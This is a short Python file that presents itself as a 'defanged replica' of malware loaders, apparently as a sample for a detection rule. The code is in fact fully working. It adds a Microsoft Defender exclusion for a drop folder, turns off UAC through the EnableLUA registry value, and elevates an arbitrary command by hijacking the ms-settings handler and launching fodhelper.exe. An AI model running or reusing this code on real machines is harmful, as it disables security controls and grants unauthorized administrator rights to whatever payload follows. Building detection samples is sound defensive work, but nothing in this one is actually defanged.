# Defanged replica of the loaders that clear the way before they run a
# payload: an antivirus exclusion for the drop folder, the consent prompt
# off, and a bypass through an auto-elevating settings binary.
import subprocess
import winreg

TEMP = r"C:\Users\Public\Temp"


def clear_the_way():
    subprocess.run(["powershell.exe", "-Command", f'Add-MpPreference -ExclusionPath "{TEMP}"'])  # expect: HS245 high
    subprocess.run(["powershell.exe", "-Command", "Set-ItemProperty -Path HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System -Name EnableLUA -Value 0"])


def elevate(command):
    key = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r"Software\Classes\ms-settings\shell\open\command")
    winreg.SetValueEx(key, "DelegateExecute", 0, winreg.REG_SZ, "")
    winreg.SetValueEx(key, None, 0, winreg.REG_SZ, command)
    subprocess.Popen(["fodhelper.exe"])
